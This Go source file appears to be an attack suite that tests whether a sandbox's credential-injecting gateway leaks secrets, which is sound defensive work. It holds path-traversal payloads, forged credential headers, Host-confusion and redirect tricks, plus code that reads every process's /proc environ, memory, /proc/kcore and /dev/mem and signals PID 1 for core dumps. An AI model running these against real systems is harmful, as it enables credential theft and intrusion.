package attacker

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/http/httptrace"
	"net/textproto"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/andybalholm/brotli"
	"github.com/klauspost/compress/gzip"
	"github.com/klauspost/compress/zlib"
	"golang.org/x/sys/unix"
)

// Own is part of every credential that the attacker makes up. On a route that adds a
// credential, the host's servers must not see it.
const Own = "agents-own-7f3a"

// Key names the variable with the placeholder of the routes' credential, and Param the
// variable of the credential that goes into the query.
const (
	Key   = "CORPUS_KEY"
	Param = "CORPUS_PARAM"
)

// signed succeeds if a request that the route allows arrives and is answered.
func signed(e *Env) error {
	s := speakTo(e.Cred)
	defer s.close()
	_, err := s.send(&message{method: "GET", target: "/v1/echo/none"}, "")
	return err
}

// echoes makes the server repeat the credential that the gateway added, and brings the
// whole answer as evidence.
func echoes(id, how, defence string, ways ...string) Attack {
	return Attack{ID: id, How: how, Defence: defence, Source: "generic", Judge: ByToken, Control: signed,
		Try: func(e *Env) error {
			return e.atOnce(each(ways, func(how string) error {
				s := speakTo(e.Cred)
				defer s.close()
				method := "GET"
				if strings.HasPrefix(how, "as-") {
					method = strings.ToUpper(how[3:])
				}
				a, err := s.say(method, (&message{method: method, target: "/v1/echo/" + how}).text(e.Cred, ""))
				if err != nil {
					return err
				}
				e.show(a.everything())
				e.unhide(a.body)
				e.unhide(fmt.Sprint(a.header, a.tail))
				if a.header.Get("Content-Encoding") != "" {
					e.undone(a.body)
				}
				return fmt.Errorf("answer %d without it", a.status)
			})...)
		}}
}

// undone returns a body decompressed in every known way.
func (e *Env) undone(body string) {
	for _, b := range []string{body, ungzipped(body)} {
		plain, _ := io.ReadAll(io.LimitReader(brotli.NewReader(strings.NewReader(b)), 1<<20))
		e.show(string(plain))
		e.show(ungzipped(b))
	}
}

func ungzipped(s string) string {
	z, err := gzip.NewReader(strings.NewReader(s))
	if err != nil {
		return ""
	}
	b, _ := io.ReadAll(io.LimitReader(z, 1<<20))
	return string(b)
}

// show brings the parts of an answer that may be the host's secret, and the answer's
// beginning.
func (e *Env) show(s string) {
	e.around([]byte(s), reverse(e.Marker))
	e.bring([]byte(s[:min(len(s), 400)]))
}

const (
	scrubbed   = "what an answer repeats of the credential is replaced before it enters"
	hiddenEcho = "answers are searched as requests are: what is found is masked, or the answer ends"
)

var (
	runsOfBase64 = sync.OnceValue(func() *regexp.Regexp { return regexp.MustCompile(`[A-Za-z0-9+/]{20,}`) })
	runsOfHex    = sync.OnceValue(func() *regexp.Regexp { return regexp.MustCompile(`[A-Fa-f0-9]{20,}`) })
)

// unhide shows what a text is when the ways of writing are undone in which a server may
// repeat something.
func (e *Env) unhide(s string) {
	e.show(strings.ReplaceAll(s, "\x00", ""))
	e.show(html.UnescapeString(s))
	if t, err := url.PathUnescape(s); err == nil {
		e.show(t)
	}
	if t, err := strconv.Unquote(`"` + strings.TrimSpace(s) + `"`); err == nil {
		e.show(t)
	}
	texts := []string{s}
	for _, run := range runsOfBase64().FindAllString(s, -1) {
		b, _ := base64.RawStdEncoding.DecodeString(run[:len(run)/4*4])
		texts = append(texts, string(b))
	}
	for _, run := range runsOfHex().FindAllString(s, -1) {
		b, _ := hex.DecodeString(run[:len(run)/2*2])
		texts = append(texts, string(b))
	}
	for _, t := range texts {
		e.show(t)
		if i := strings.Index(t, "\x1f\x8b"); i >= 0 {
			e.show(ungzipped(t[i:]))
		}
		if i := strings.Index(t, "x\x9c"); i >= 0 {
			if z, err := zlib.NewReader(strings.NewReader(t[i:])); err == nil {
				b, _ := io.ReadAll(io.LimitReader(z, 1<<20))
				e.show(string(b))
			}
		}
	}
}

// owns sends credentials that the attacker made up on a credential's route.
func owns(id, how string, ms func(e *Env) []message) Attack {
	return Attack{ID: id, How: how, Defence: "what stands where credentials do is taken off before the route's own is put on", Source: "OpenSandbox#1193", Judge: ByHost, Control: signed,
		Try: func(e *Env) error {
			var tries []try
			for i, m := range ms(e) {
				tries = append(tries, try{fmt.Sprint(i), func() error {
					s := speakTo(e.Cred)
					defer s.close()
					if _, err := s.send(&m, ""); err != nil {
						return err
					}
					return errors.New("it went, without what was the attacker's")
				}})
			}
			return e.atOnce(tries...)
		}}
}

// elsewhere sends requests that may make the credential leave its route. The servers
// elsewhere look for it.
func elsewhere(id, how, defence, source string, f func(e *Env) []try) Attack {
	return Attack{ID: id, How: how, Defence: defence, Source: source, Judge: ByHost, Control: signed,
		Try: func(e *Env) error { return e.atOnce(f(e)...) }}
}

// went makes requests that may be answered. The servers report where they arrived.
func went(addr string, plain bool, m message) error {
	s := speakTo(addr)
	s.plain = plain
	defer s.close()
	method := m.method
	if method == "" {
		method, m.method = "GET", "GET"
	}
	a, err := s.say(method, m.text(addr, ""))
	if err != nil {
		return err
	}
	return fmt.Errorf("answer %d %s", a.status, a.header.Get("Carboy-Refused"))
}

func get1(lines ...string) func(target string) message {
	return func(target string) message { return message{method: "GET", target: target, head: lines} }
}

func credentials() []Attack {
	return family("credentials", "W4", slices.Concat(credentialEchoes(), ownCredentials(), credentialAddresses(), credentialJourneys())...)
}

// credentialEchoes returns the attacks in which the server repeats the added credential.
func credentialEchoes() []Attack {
	return []Attack{
		echoes("echo-headers", "Have the server repeat the credential in headers: its own, cookies, links, challenges, the place of a redirect.", scrubbed, "header", "cookie", "link", "challenge", "redirect", "twice", "length"),
		echoes("echo-body", "Have it repeat the credential in the body: whole, byte by byte, over the borders of chunks and buffers, many times.", scrubbed, "body", "pieces", "halves", "border-4096", "border-16384", "border-32768", "border-65536", "often"),
		echoes("echo-trailers", "Have it repeat the credential in trailers, announced and not.", scrubbed, "trailer", "late-trailer"),
		echoes("echo-early", "Have it repeat the credential in answers before the answer.", scrubbed, "early", "processing"),
		echoes("echo-compressed", "Have it compress an answer with the credential, though it was asked not to.", "gzip is undone and searched, other codings are refused", "gzip", "gzip-members", "gzip-twice", "br", "deflate", "x-gzip", "gzip-upper"),
		echoes("echo-errors", "Have it repeat the credential in errors, and to methods that echo.", scrubbed, "400", "401", "404", "500", "503", "as-trace", "as-options", "as-delete"),
		echoes("echo-escaped", "Have it repeat the credential as URLs, JSON and HTML write it.", scrubbed, "percent", "percent-lower", "json", "html", "location"),
		echoes("broken-server", "Have the server break off, or answer what is no HTTP, so that somebody speaks of what was sent.", "carboy's own answers know no credential", "reset", "garbage", "cut", "bad-header", "bad-chunk"),
		echoes("echo-encoded", "Have it repeat the credential in base64, at each place in a group and within JSON, in hex, UTF-16, escapes and entities.", hiddenEcho, "base64-0", "base64-1", "base64-2", "base64-json", "hex", "hex-capitals", "utf-16", "unicode-escapes", "percent-all", "entities", "header-base64", "trailer-hex"),
		echoes("echo-packed", "Have it repeat the credential compressed without saying so, and in a compressed message of gRPC.", hiddenEcho, "hidden-gzip", "hidden-gzip-pieces", "hidden-zlib", "hidden-gzip-base64", "grpc-gzip"),
		{ID: "echo-query", How: "Have the server repeat a credential that goes into the query: in the body, in a redirect, in an error.", Defence: scrubbed, Judge: ByToken,
			Control: func(e *Env) error {
				s := speakTo(e.CredQuery)
				defer s.close()
				_, err := s.send(&message{method: "GET", target: "/v1/echo/none?a=1"}, "")
				return err
			},
			Try: func(e *Env) error {
				return e.atOnce(each([]string{"uri", "uri-redirect", "uri-error", "reset", "garbage", "uri-json"}, func(how string) error {
					s := speakTo(e.CredQuery)
					defer s.close()
					a, err := s.say("GET", (&message{method: "GET", target: "/v1/echo/" + how + "?a=1"}).text(e.CredQuery, ""))
					if err != nil {
						return err
					}
					e.show(a.everything())
					return fmt.Errorf("answer %d without it", a.status)
				})...)
			}},
		{ID: "echo-http2", How: "Have it repeat the credential in headers, trailers, early answers and bodies of HTTP/2.", Defence: scrubbed, Judge: ByToken, Control: signed,
			Try: func(e *Env) error {
				return e.atOnce(each([]string{"header", "body", "pieces", "trailer", "early", "gzip", "redirect", "401"}, func(how string) error {
					c := client2()
					defer c.CloseIdleConnections()
					r, err := http.NewRequest("GET", "https://"+e.Cred+"/v1/echo/"+how, nil)
					if err != nil {
						return cannot("%v", err)
					}
					r = r.WithContext(httptrace.WithClientTrace(r.Context(), &httptrace.ClientTrace{Got1xxResponse: func(_ int, h textproto.MIMEHeader) error {
						e.bring([]byte(fmt.Sprint(h)))
						return nil
					}}))
					res, err := c.Do(r)
					if err != nil {
						return slow(err)
					}
					defer res.Body.Close()
					var b bytes.Buffer
					b.ReadFrom(res.Body)
					e.show(fmt.Sprint(res.Header, b.String(), res.Trailer))
					return fmt.Errorf("answer %d without it", res.StatusCode)
				})...)
			}},
	}
}

// ownCredentials returns the attacks that send credentials which the attacker made up.
func ownCredentials() []Attack {
	return []Attack{
		owns("own-headers", "Send credentials of one's own on a credential's route, in each header, spelling and number.", func(*Env) (out []message) {
			for _, h := range []string{
				"Authorization: Bearer " + Own, "authorization: basic " + b64(Own), "AUTHORIZATION: " + Own, "Authorization: Bearer x\r\nAuthorization: Bearer " + Own, "X-Api-Key: " + Own, "x-api-key: " + Own, "api-key: " + Own,
				"X_Api_Key: " + Own, "X-API_KEY: " + Own, "Private_Token: " + Own, "Cookie: session=" + Own, "Cookie: a=1\r\nCookie: session=" + Own, "Proxy-Authorization: Bearer " + Own, "Private-Token: " + Own, "X-Auth-Token: " + Own,
				"X-Goog-Api-Key: " + Own, "X-Amz-Security-Token: " + Own, "X-Vault-Token: " + Own, "Authorization:\tBearer " + Own, "Connection: X-Api-Key\r\nX-Api-Key: " + Own,
			} {
				out = append(out, message{method: "GET", target: "/v1/echo/none", head: []string{h}})
			}
			return out
		}),
		owns("own-parameters", "Send them as parameters of the query: in capitals, encoded, twice, behind a semicolon, in brackets.", func(*Env) (out []message) {
			for _, q := range []string{"access_token=" + Own, "a=1&Access_Token=" + Own, "%61ccess_token=" + Own, "access_token=x&access_token=" + Own, "a=1;access_token=" + Own, "token=" + Own, "key=" + Own, "api%5fkey=" + Own, "access_token[]=" + Own, "access.token=" + Own, "access%20token=" + Own, "+access_token=" + Own, "?access_token=" + Own, "&&key=" + Own, "X-Amz-Signature=" + Own} {
				out = append(out, message{method: "GET", target: "/v1/echo/none?" + q})
			}
			return out
		}),
		owns("own-names", "Send them in headers and parameters that no list has, but that name a credential by their words.", func(*Env) (out []message) {
			for _, h := range []string{"apikey", "X-Token", "X-API-TOKEN", "X-Auth-Key", "DD-API-KEY", "DD-APPLICATION-KEY", "xi-api-key", "X-Authorization", "X-Forwarded-Authorization", "x_session_token", "X-Client-Secret", "XApiKey", "X-JWT", "Access-Token", "Authorization-Bin"} {
				out = append(out, message{method: "GET", target: "/v1/echo/none", head: []string{h + ": " + Own}})
			}
			for _, p := range []string{"realtime, openai-insecure-api-key." + Own, "base64url.bearer.authorization.k8s.io." + Own, "bearer, " + Own} {
				out = append(out, message{method: "GET", target: "/v1/echo/none", head: []string{"Sec-WebSocket-Protocol: " + p}})
			}
			for _, q := range []string{"auth_token", "oauth_token", "client_secret", "clientSecret", "accessToken", "xapikey", "client_assertion", "user[password]", "page_access_token", "subscription-key", "refresh%5Ftoken"} {
				out = append(out, message{method: "GET", target: "/v1/echo/none?" + q + "=" + Own})
			}
			return out
		}),
		{ID: "own-fields", How: "Send them as fields of forms, JSON and parts: at the top, in params, deep, escaped, compressed, and as what they are not said to be.", Defence: "a body whose field names a credential is refused", Source: "generic", Judge: ByHost,
			Control: func(e *Env) error {
				s := speakTo(e.Cred)
				defer s.close()
				_, err := s.send(&message{target: "/v1/echo/none", head: []string{"Content-Type: application/json"}, body: `{"page_token":"x","max_tokens":1,"key":"y","a":{"next_token":"a-cursor-of-pages"},"messages":[{"token":"a-word-of-a-model"}]}`}, "")
				return err
			},
			Try: func(e *Env) error {
				var tries []try
				for _, b := range [][]string{
					{"application/json", `{"api_key":"` + Own + `"}`}, {"application/json", `{"a":[{"x":"}"}],"\u0061ccess_token" : "` + Own + `"}`}, {"application/json", `{"params":{"auth":"` + Own + `"}}`},
					{"application/json", `{"auth":{"token":"` + Own + `"}}`}, {"application/json", `{"token":"` + os.Getenv(Key) + Own + `"}`}, {"text/plain", `{"apiKey":"` + Own + `"}`},
					{"application/x-www-form-urlencoded", "client_secret=" + Own}, {"application/x-www-form-urlencoded", "a=b&client%5Fsecret=" + Own}, {"application/x-www-form-urlencoded", `{"password":"` + Own + `"}`},
					{"application/json", `{"a":{"b":[{"api_key":"` + Own + `"}]}}`}, {"application/json", `{"variables":{"token":{"value":"Bearer ` + Own + `"}}}`}, {"image/png", `{"api_key":"` + Own + `"}`},
					{"application/x-www-form-urlencoded", "a%5Bb%5D%5Bapi_key%5D=" + Own}, {"multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"api_key\"\r\n\r\n" + Own + "\r\n--b--"},
					{"multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=operations\r\n\r\n{\"variables\":{\"token\":\"" + Own + "\"}}\r\n--b--"},
					{"application/json\r\nContent-Encoding: gzip", gzipped(`{"client_secret":"` + Own + `"}`)}, {"application/json", `{"text":"` + strings.Repeat("words ", 20000) + `","secret":"` + Own + `"}`},
				} {
					tries = append(tries, try{b[1][:min(len(b[1]), 40)], func() error {
						return went(e.Cred, false, message{method: "POST", target: "/v1/echo/none", head: []string{"Content-Type: " + b[0]}, body: b[1]})
					}})
				}
				return e.atOnce(tries...)
			}},
		owns("own-trailers", "Send them in trailers, which some servers take for headers.", func(*Env) (out []message) {
			for _, h := range []string{"Authorization", "X-Api-Key", "Cookie"} {
				for _, announced := range []string{h, "X-End"} {
					out = append(out, message{target: "/v1/echo/none", head: []string{"Trailer: " + announced}, chunks: []string{"x"}, trailer: []string{"X-End: 1", h + ": " + Own}})
				}
			}
			return out
		}),
		owns("own-in-authority", "Send them as the user of the target or of the host.", func(e *Env) []message {
			return []message{{method: "GET", target: "https://me:" + Own + "@" + e.Cred + "/v1/echo/none"}, {method: "GET", target: "//" + Own + "@" + e.Cred + "/v1/echo/none"}}
		}),
	}
}

// credentialAddresses returns the attacks that write a path or a host with two readings.
func credentialAddresses() []Attack {
	const same = "a credential goes with the host that was dialled and verified, and the conditions of its route"
	return []Attack{
		elsewhere("path-tricks", "Write a path that meets the credential's condition and is read as another: dots, encoded slashes, doubly encoded, backslashes, parameters, empty segments.", "a path with two readings is refused where paths matter", "OpenShell#637", func(e *Env) []try {
			return each([]string{
				"/v1/../admin", "/v1/%2e%2e/admin", "/v1/.%2E/admin", "/v1/..%2fadmin", "/v1%2f..%2fadmin", "/v1/%252e%252e/admin", "/v1/..%5cadmin", "/v1\\..\\admin", "/v1/..;/admin", "/v1/..;a=b/admin", "/v1/..%3b/admin", "/v1//../admin",
				"/v1/.%00./admin", "/v1/%u002e%u002e/admin", "/v1/%c0%ae%c0%ae/admin", "//v1/../admin", "/v1/./../admin", "/./admin/../v1/../admin", "/v1/..", "/v1/%2e%2e%2fadmin?/v1/", "/admin#/v1/", "/admin?x=/v1/", "/admin;/v1/x", "/v1admin", "/V1/admin", "/v1%20/admin", "/v1./admin",
			}, func(p string) error { return went(e.Cred, false, get1()(p)) })
		}),
		elsewhere("other-hosts", "Ask for another host on the credential's connection, and for the credential's host on another's.", same, "OpenSandbox#1193, microsandbox#709", func(e *Env) []try {
			var tries []try
			for _, to := range []string{e.Cred, e.Leak} {
				other := e.Leak
				if to == e.Leak {
					other = e.Cred
				}
				for _, h := range []string{other, hostOf(other), other + ".", "x@" + other, hostOf(to) + "@" + other, strings.ToUpper(other), hostOf(to) + ":" + portOf(other), hostOf(other) + ":" + portOf(to)} {
					tries = append(tries, try{to + " as " + h, func() error {
						s := speakTo(to)
						defer s.close()
						a, err := s.say("GET", "GET /v1/echo/none HTTP/1.1\r\nHost: "+h+"\r\n\r\n")
						if err != nil {
							return err
						}
						return fmt.Errorf("answer %d", a.status)
					}}, try{to + " for " + h, func() error {
						s := speakTo(to)
						defer s.close()
						a, err := s.say("GET", "GET https://"+h+"/v1/echo/none HTTP/1.1\r\nHost: "+to+"\r\n\r\n")
						if err != nil {
							return err
						}
						return fmt.Errorf("answer %d", a.status)
					}})
				}
			}
			return tries
		}),
		elsewhere("other-authority", "Give another authority than the connection's in HTTP/2.", same, "microsandbox#709", func(e *Env) []try {
			var tries []try
			for _, x := range [][2]string{{e.Cred, e.Leak}, {e.Leak, e.Cred}, {e.Cred, hostOf(e.Leak)}, {e.Leak, hostOf(e.Cred)}, {e.Leak, "x@" + e.Cred}} {
				tries = append(tries, try{x[0] + " as " + x[1], func() error {
					c := client2()
					defer c.CloseIdleConnections()
					_, err := send2(c, x[0], &message{method: "GET", target: "/v1/echo/none", head: []string{"Host: " + x[1]}}, "")
					if err == nil {
						err = errors.New("it went")
					}
					return err
				}})
			}
			return tries
		}),
	}
}

// credentialJourneys returns the attacks that take the credential, or its placeholder, along to another host or protocol.
func credentialJourneys() []Attack {
	return []Attack{
		elsewhere("redirects", "Have the server redirect to another host, path, port and scheme, and follow.", "a redirect is a request of its own, judged anew", "generic", func(e *Env) []try {
			return each([]string{"https://" + e.Leak + "/v1/landed", "https://" + e.Cred + "/landed", "http://" + e.CredPlain + "/v1/landed", "http://" + e.Open + "/v1/landed", "//" + e.Leak + "/v1/landed"}, func(to string) error {
				s := speakTo(e.Cred)
				defer s.close()
				a, err := s.say("GET", (&message{method: "GET", target: "/v1/redirect?to=" + to, head: []string{"Authorization: Bearer " + os.Getenv(Key)}}).text(e.Cred, ""))
				if err != nil {
					return err
				}
				u := a.header.Get("Location")
				if a.status != 302 || u == "" {
					return cannot("no redirect: %d", a.status)
				}
				u = strings.TrimPrefix(strings.TrimPrefix(u, "https:"), "//")
				u, plain := strings.CutPrefix(u, "http://")
				host, path, _ := strings.Cut(u, "/")
				return went(host, plain, message{target: "/" + path, head: []string{"Authorization: Bearer " + os.Getenv(Key)}})
			})
		}),
		elsewhere("plain-http", "Ask the credential's host by plain HTTP.", "a credential is not put on plain HTTP to another machine", "claude-code#40213", func(e *Env) []try {
			return []try{{"its route", func() error { return went(e.CredPlain, true, get1()("/v1/echo/none")) }}, {"as https", func() error {
				return went(e.CredPlain, true, get1()("https://"+e.CredPlain+"/v1/echo/none"))
			}}, {"forwarded", func() error {
				return went(e.CredPlain, true, get1("X-Forwarded-Proto: https", "Forwarded: proto=https")("/v1/echo/none"))
			}}}
		}),
		elsewhere("placeholder-elsewhere", "Send the placeholder to hosts and paths that have no credential.", "the placeholder is worth nothing: it is not exchanged, what matches is signed", "generic", func(e *Env) []try {
			p := os.Getenv(Key)
			return []try{
				{"other host", func() error { return went(e.Leak, false, get1("Authorization: Bearer "+p, "X-Key: "+p)("/v1/x?k="+p)) }},
				{"other path", func() error { return went(e.Cred, false, get1("Authorization: Bearer "+p)("/admin?k="+p)) }},
				{"in the body", func() error { return went(e.Leak, false, message{method: "POST", target: "/v1/x", body: p}) }},
				{"plain", func() error { return went(e.Open, true, get1("Authorization: Bearer "+p)("/")) }},
			}
		}),
		elsewhere("hop-by-hop", "Name the credential's header as one that ends with the connection, so that it is dropped, or twice.", "the credential is put on after all that", "generic", func(e *Env) []try {
			return each([]string{"Connection: Authorization", "Connection: close, authorization", "Keep-Alive: Authorization", "TE: trailers, Authorization", "Proxy-Connection: Authorization"}, func(h string) error {
				return went(e.Cred, false, get1(h)("/v1/once"))
			})
		}),
		elsewhere("upgrades", "Ask on the credential's route for another protocol.", "what is spoken after it would not be judged", "generic", func(e *Env) []try {
			return each([]string{"h2c", "TLS/1.0", "foo, websocket", "tcp"}, func(p string) error {
				return went(e.Cred, false, get1("Connection: Upgrade", "Upgrade: "+p, "HTTP2-Settings: AAMAAABkAAQAAP__")("/v1/upgrade"))
			})
		}),
	}
}

const nowhere = "the credential is put on by the gateway, outside; inside there is a placeholder"

// seek looks for the planted text in places inside. The host judges whether the found text
// is the real one. seek succeeds if it finds at least the placeholder.
func seek(id, how string, control, f func(e *Env) error) Attack {
	return Attack{ID: id, How: how, Defence: nowhere, Source: "generic", Judge: ByToken, Try: f,
		// What is not used might not be anywhere.
		Control: func(e *Env) error { return errors.Join(signed(e), control(e)) }}
}

// around brings the text around each occurrence of what in b.
func (e *Env) around(b []byte, what string) (n int) {
	for at := 0; ; n++ {
		i := bytes.Index(b[at:], []byte(what))
		if i < 0 {
			return n
		}
		at += i
		e.bring(b[at:min(len(b), at+len(what)+80)])
		at += len(what)
	}
}

func processes() (out []string) {
	out, _ = filepath.Glob("/proc/[0-9]*")
	return out
}

// memory looks for text in the memory of a process.
func (e *Env) memory(dir, text string) error {
	maps, err := os.ReadFile(dir + "/maps")
	if err != nil {
		return err
	}
	mem, err := os.Open(dir + "/mem")
	if err != nil {
		return err
	}
	defer mem.Close()
	b := make([]byte, 1<<20)
	found, left := 0, 64<<20
	for line := range strings.Lines(string(maps)) {
		f := strings.Fields(line)
		if len(f) < 2 || f[1][0] != 'r' || strings.Contains(line, "[v") || len(f) > 5 && strings.HasPrefix(f[5], "/") {
			continue
		}
		from, to, _ := strings.Cut(f[0], "-")
		start, err1 := strconv.ParseInt(from, 16, 64)
		end, err2 := strconv.ParseInt(to, 16, 64)
		if err1 != nil || err2 != nil || end-start > 64<<20 { // what is so large is hardly used
			continue
		}
		for at := start; at < end && left > 0; at += int64(len(b)) - 256 {
			n, _ := mem.ReadAt(b[:min(int64(len(b)), end-at)], at)
			left -= n
			found += e.around(b[:n], text)
			if n <= 256 {
				break
			}
		}
	}
	if found == 0 {
		return errors.New("not there")
	}
	return nil
}

func placeholders() []Attack {
	has := func(e *Env) error {
		if os.Getenv(Key) == "" {
			return errors.New("the variable is not there")
		}
		return nil
	}
	return family("placeholders", "S3",
		seek("environment", "Look into the variables of every process.", has, func(e *Env) error {
			e.bring([]byte(strings.Join(os.Environ(), "\n")))
			var tries []try
			for _, p := range processes() {
				tries = append(tries, try{p, func() error { return e.read(p + "/environ") }})
			}
			return e.any(tries...)
		}),
		seek("command-lines", "Look into the command lines, names and states of every process.", has, func(e *Env) error {
			var tries []try
			for _, p := range processes() {
				for _, f := range []string{"/cmdline", "/comm", "/status", "/stat", "/auxv"} {
					tries = append(tries, try{p + f, func() error { return e.read(p + f) }})
				}
			}
			return e.any(tries...)
		}),
		seek("memory", "Search the memory of every process inside, carboy's own init among them.", func(e *Env) error {
			return (&Env{World: e.World}).memory("/proc/self", os.Getenv(Key)[:30])
		}, func(e *Env) error {
			m := reverse(e.Marker)
			return e.any(each(processes(), func(p string) error { return e.memory(p, m[:len(m)-2]) })...)
		}),
		seek("descriptors", "Read what the open files of every process lead to.", func(e *Env) error {
			f, err := os.Open(e.ReadOnly + "/given")
			if err != nil {
				return err
			}
			defer f.Close()
			return e.read(fmt.Sprintf("/proc/self/fd/%d", f.Fd()))
		}, func(e *Env) error {
			fds, _ := filepath.Glob("/proc/[0-9]*/fd/*")
			return e.any(each(fds, func(p string) error {
				fd, err := unix.Open(p, unix.O_RDONLY|unix.O_NONBLOCK, 0)
				if err != nil {
					return err
				}
				defer unix.Close(fd)
				var st unix.Stat_t
				if unix.Fstat(fd, &st) != nil || st.Mode&unix.S_IFMT != unix.S_IFREG {
					return errors.New("no file")
				}
				b := make([]byte, 1<<20)
				n, err := unix.Read(fd, b)
				if e.around(b[:max(n, 0)], reverse(e.Marker)) == 0 {
					return errors.Join(err, errors.New("not there"))
				}
				return nil
			})...)
		}),
		seek("files", "Search every directory in which something could be written, and those of carboy.", func(e *Env) error { return e.search(e.Workspace, "findme") }, func(e *Env) error {
			return e.any(each([]string{"/home", "/root", "/tmp", "/var", "/run", "/mnt", "/opt", "/srv", "/dev", "/etc", "/.carboy", e.ReadOnly}, func(dir string) error { return e.search(dir, reverse(e.Marker)) })...)
		}),
		seek("kernel", "Read the kernel's memory, its messages and what it keeps for others.", has, func(e *Env) error {
			return e.any(each([]string{"/proc/kcore", "/dev/mem", "/dev/kmem", "/proc/kmsg", "/dev/kmsg", "/proc/keys", "/proc/sysrq-trigger", "/sys/kernel/debug", "/proc/1/root/proc/self/environ", "/proc/vmcore", "/sys/firmware/acpi/tables/DSDT"}, e.read)...)
		}),
		seek("first-process", "Have process 1 show what it was started with, after a signal that makes programs write their memory.", has, func(e *Env) error {
			for _, s := range []unix.Signal{unix.SIGQUIT, unix.SIGABRT, unix.SIGUSR1} {
				unix.Kill(1, s)
			}
			time.Sleep(50 * time.Millisecond)
			cores, _ := filepath.Glob("/core*")
			more, _ := filepath.Glob("/tmp/core*")
			return e.any(each(append(append(cores, more...), "/proc/1/environ", "/proc/1/cmdline", "/proc/1/auxv"), e.read)...)
		}),
		Attack{ID: "records", How: "Have the credential and a watched secret written down: by names, paths and methods that are refused and recorded, and by what upstream answers.", Defence: "records hold the names of secrets, never a value", Source: "generic", Judge: ByHost},
	)
}
